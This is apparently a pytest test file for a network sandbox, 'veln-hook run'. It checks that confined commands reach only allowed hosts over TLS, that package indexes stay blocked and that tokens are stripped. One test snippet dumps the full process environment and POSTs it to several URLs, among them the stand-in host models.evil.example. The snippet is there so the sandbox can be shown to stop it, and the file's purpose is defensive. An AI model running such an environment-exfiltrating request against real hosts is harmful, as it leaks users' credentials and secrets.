"""``veln-hook run``: what a confined command reaches of the network, and what is told of the rest."""

from __future__ import annotations

import contextlib
import json
import re
import socket
import ssl
import subprocess
import sys
import threading
from typing import TYPE_CHECKING

import pytest
from confined import PATIENCE
from run_commands import TOKEN, Command

from support import envs
from veln_hook.sandbox.interface import Rung

if TYPE_CHECKING:
    from pathlib import Path


class Server:
    """A server on loopback that speaks TLS, and keeps what it was sent."""

    def __init__(self, directory: Path, address: str, subject: str) -> None:
        self.certificate = directory / f"{address}.pem"
        key = directory / f"{address}.key"
        subprocess.run(
            [
                *(
                    "openssl",
                    "req",
                    "-x509",
                    "-newkey",
                    "ec",
                    "-pkeyopt",
                    "ec_paramgen_curve:P-256",
                    "-nodes",
                ),
                *("-days", "2", "-subj", "/CN=test", "-addext", f"subjectAltName={subject}"),
                *("-keyout", str(key), "-out", str(self.certificate)),
            ],
            check=True,
            capture_output=True,
        )
        self._context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._context.load_cert_chain(self.certificate, key)
        self.received: list[bytes] = []
        self.accepted = 0
        self._listener = socket.create_server((address, 0))
        self.port = self._listener.getsockname()[1]
        self._thread = threading.Thread(target=self._serve)
        self._thread.start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                plain, _ = self._listener.accept()
                self.accepted += 1
                plain.settimeout(PATIENCE)
                with contextlib.suppress(OSError), self._context.wrap_socket(plain, server_side=True) as sock:
                    self.received.append(sock.recv(65536))
                    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello")

    def close(self) -> None:
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        self._thread.join()


@pytest.fixture
def make_server(tmp_path):
    with contextlib.ExitStack() as stack:

        def make(address: str, subject: str) -> Server:
            made = Server(tmp_path, address, subject)
            stack.callback(made.close)
            return made

        yield make


# What anybody writes who fetches something; it says which certificate it met, and what came of the others.
FETCH = """
import ssl, sys, urllib.request
for url in sys.argv[2:]:
    try:
        context = ssl.create_default_context(cafile=sys.argv[1])
        with urllib.request.urlopen(url, timeout=20, context=context) as answer:
            print(answer.status, answer.read().decode())
    except OSError as error:
        print("no", error)
"""


def fetch(command: Command, server: Server, options: list[str], *urls: str, **more):
    """Fetch with the server's certificate as the only one that is trusted: nobody can stand in for it."""
    (command.project / "ca.pem").write_bytes(server.certificate.read_bytes())
    return command.run(*options, "--", sys.executable, "-I", "-c", FETCH, "ca.pem", *urls, **more)


def test_an_allowed_name_is_reached_over_tls_and_nothing_else(command, make_server):
    wanted, other = make_server("127.0.0.1", "DNS:allowed.test"), make_server("127.0.0.2", "DNS:other.test")
    done = fetch(
        command,
        wanted,
        ["--allow", "allowed.test"],
        "https://allowed.test/path",
        "https://other.test/",
        f"https://127.0.0.2:{other.port}/",
        f"https://127.0.0.1:{wanted.port}/",
        names={"allowed.test": ("127.0.0.1", wanted.port), "other.test": ("127.0.0.2", other.port)},
    )
    answers = done.stdout.decode().splitlines()
    assert answers[0] == "200 hello"
    assert [answer[:3] for answer in answers[1:]] == ["no "] * 3
    assert len(wanted.received) == 1
    assert wanted.received[0].startswith(b"GET /path HTTP/1.1\r\n")
    assert (wanted.accepted, other.accepted) == (1, 0)
    told = done.stderr.decode()
    assert re.search(r"^  other\.test +443 +1x +python", told, re.MULTILINE), told
    assert "--allow other.test" in told
    assert "allowed.test " not in told


# pip brings requests along, so it is at hand without a network.
REQUESTS = """
try:
    import requests
except ImportError:
    from pip._vendor import requests
import sys
for trust_env, *urls in (True, *sys.argv[1:]), (False, sys.argv[1]):
    session = requests.Session()
    session.trust_env = trust_env  # with it, proxies and REQUESTS_CA_BUNDLE are looked up
    session.verify = trust_env or "ca.pem"
    for url in urls:
        try:
            answer = session.get(url, timeout=20)
            print(answer.status_code, answer.text.strip())
        except (requests.ConnectionError, OSError) as error:
            print("no", type(error).__name__)
"""


@pytest.fixture(scope="module")
def installed_requests(tmp_path_factory) -> str:
    """The interpreter of a virtual environment with the newest requests."""
    home = envs.Home(tmp_path_factory.mktemp("requests"))
    env = envs.fresh_env(home.path / "venv", envs.newest_pair(), home, hooked=False)
    env.run_pip("install", "requests", online=True, check=True)
    return str(env.python)


@pytest.mark.parametrize("which", ["vendored", pytest.param("installed", marks=pytest.mark.online)])
def test_requests_reaches_an_allowed_host_over_tls_untouched_and_nothing_else(
    command, make_server, request, which
):
    python = sys.executable if which == "vendored" else request.getfixturevalue("installed_requests")
    if (
        which == "vendored"
        and subprocess.run([python, "-c", "import pip._vendor.requests"], check=False).returncode
    ):
        pytest.skip("this Python has no pip that brings requests along")
    wanted, other = make_server("127.0.0.1", "DNS:allowed.test"), make_server("127.0.0.2", "DNS:other.test")
    # Each trusts one certificate only, the server's own: whoever opened TLS in between would be noticed.
    company = command.home / "company-ca.pem"
    for place in (company, command.project / "ca.pem"):
        place.write_bytes(wanted.certificate.read_bytes())
    urls = [
        "https://allowed.test/path?query",
        "https://other.test/",
        "http://other.test/",
        f"https://127.0.0.2:{other.port}/",
        f"https://127.0.0.1:{wanted.port}/",
        "https://8.8.8.8/",
    ]
    done = command.run(
        *("--allow", "allowed.test", "--", python, "-I", "-c", REQUESTS, *urls),
        names={"allowed.test": ("127.0.0.1", wanted.port), "other.test": ("127.0.0.2", other.port)},
        REQUESTS_CA_BUNDLE=str(company),
    )
    answers = done.stdout.decode().splitlines()
    directly = "no ConnectionError" if command.rung is Rung.BUBBLEWRAP else "200 hello"  # see below
    assert (answers[0], answers[-1]) == ("200 hello", directly), done.stderr
    assert [answer[:3] for answer in answers[1:-1]] == ["no ", "403", "no ", "no ", "no "]
    times = 1 if command.rung is Rung.BUBBLEWRAP else 2
    assert [text.partition(b"\r\n")[0] for text in wanted.received] == [b"GET /path?query HTTP/1.1"] * times
    assert all(b"User-Agent: python-requests/" in text for text in wanted.received)
    assert (wanted.accepted, other.accepted) == (times, 0)
    assert b"--allow other.test" in done.stderr


def test_a_program_that_knows_no_proxy_reaches_an_allowed_name(command, make_server):
    if command.rung is Rung.BUBBLEWRAP:
        pytest.skip("no port below 1024 can be had in there, so names lead nowhere")
    server = make_server("127.0.0.1", "DNS:allowed.test")
    code = (
        "import http.client, ssl\n"
        "for name in ('allowed.test', 'other.test'):\n"
        "    try:\n"
        "        context = ssl.create_default_context(cafile='ca.pem')\n"
        "        met = http.client.HTTPSConnection(name, timeout=20, context=context)\n"
        "        met.request('GET', '/')\n"
        "        print(met.getresponse().read().decode())\n"
        "    except OSError as error: print('no')"
    )
    (command.project / "ca.pem").write_bytes(server.certificate.read_bytes())
    names = dict.fromkeys(("allowed.test", "other.test"), ("127.0.0.1", server.port))
    done = command.python(code, "--allow", "allowed.test", names=names)
    assert done.stdout == b"hello\nno\n", done.stderr
    assert server.accepted == 1
    assert b"other.test" in done.stderr


def test_an_address_that_is_allowed_is_reached(command, make_server):
    server = make_server("127.0.0.2", "IP:127.0.0.2")
    options = ["--allow", f"127.0.0.2:{server.port}"]
    done = fetch(command, server, options, f"https://127.0.0.2:{server.port}/")
    assert (done.stdout, done.stderr, done.returncode) == (b"200 hello\n", b"", 0)


def test_hosts_of_the_policy_are_reached(command, make_server):
    server = make_server("127.0.0.2", "IP:127.0.0.2")
    policy = command.home / ".config" / "veln-hook" / "policy.toml"
    policy.parent.mkdir(parents=True)
    policy.write_text(f'[sandbox]\nallow_hosts = ["127.0.0.2:{server.port}"]\n')
    done = fetch(command, server, [], f"https://127.0.0.2:{server.port}/")
    assert (done.stdout, done.stderr) == (b"200 hello\n", b"")


def test_a_package_index_is_never_reached(command):
    code = "import urllib.request; urllib.request.urlopen('https://pypi.org/simple/')"
    done = command.python(code, "--allow", "pypi.org")
    assert done.returncode == 1
    assert b"403 veln-hook: pypi.org is a package index" in done.stderr
    assert (
        b"pypi.org is a package index: install beforehand, where it is judged; no option opens it"
        in done.stderr
    )


POST_EVERYWHERE = """
import json, os, socket, sys, urllib.request
body = json.dumps(dict(os.environ)).encode()
for url in sys.argv[1:]:
    for proxies in ({}, None):
        try:
            urllib.request.build_opener(urllib.request.ProxyHandler(proxies)).open(url, body, 10)
        except OSError:
            pass
print("goes on")
"""


def test_without_an_allowed_host_nothing_leaves_and_it_is_told(command, make_server):
    sink = make_server("127.0.0.1", "IP:127.0.0.1")
    urls = [
        f"https://127.0.0.1:{sink.port}/",
        f"https://localhost:{sink.port}/",
        "https://models.evil.example/v1",
    ]
    done = command.run("--", sys.executable, "-I", "-c", POST_EVERYWHERE, *urls)
    assert (done.returncode, done.stdout) == (0, b"goes on\n")
    assert sink.accepted == 0
    if command.rung is Rung.BUBBLEWRAP:
        return  # no port below 1024 can be had in there, so nobody is asked for names
    assert b"refused to let it reach" in done.stderr
    assert b"models.evil.example" in done.stderr
    assert b"--allow models.evil.example" in done.stderr


def test_quiet_tells_nothing_and_learn_a_policy(command):
    ask = (
        "import urllib.request\n"
        "for url in ('https://models.evil.example/', 'https://models.evil.example:8443/', 'https://pypi.org/'):\n"
        "    try: urllib.request.urlopen(url)\n"
        "    except OSError: pass"
    )
    assert command.python(ask, "-q").stderr == b""
    told = command.python(ask, "--learn", GITHUB_TOKEN=TOKEN).stderr.decode()
    assert '[sandbox]\nallow_hosts = ["models.evil.example", "models.evil.example:8443"]\n' in told
    assert "--env NAME gives: GITHUB_TOKEN" in told
    assert TOKEN not in told


def test_json_is_the_last_line_of_standard_error(command):
    code = (
        "import sys, urllib.request\n"
        "sys.stderr.write('unended')\n"
        "try: urllib.request.urlopen('https://evil.example/')\n"
        "except OSError: sys.exit(1)"
    )
    done = command.python(code, "--json", "-q", "--allow", "good.example", GITHUB_TOKEN=TOKEN)
    told = json.loads(done.stderr.splitlines()[-1])
    assert (told["schema"], told["command"], told["errors"]) == (1, "run", [])
    (result,) = told["results"]
    (refusal,) = result["refusals"]
    assert (refusal["host"], refusal["port"], refusal["allow"]) == ("evil.example", 443, "evil.example")
    assert (result["exit_status"], result["signal"], result["removed"]) == (1, None, ["GITHUB_TOKEN"])
    assert result["rung"] == command.rung.value


@pytest.mark.online
def test_a_host_of_the_internet_is_reached(command):
    try:
        socket.create_connection(("example.com", 443), 10).close()
    except OSError as error:
        pytest.skip(f"example.com can't be reached without us either: {error}")
    code = (
        "import urllib.request\n"
        "print(urllib.request.urlopen('https://example.com/').status)\n"
        "urllib.request.urlopen('https://www.python.org/')"
    )
    done = command.python(code, "--allow", "example.com")
    assert done.stdout == b"200\n"
    assert done.returncode == 1
    assert b"www.python.org" in done.stderr
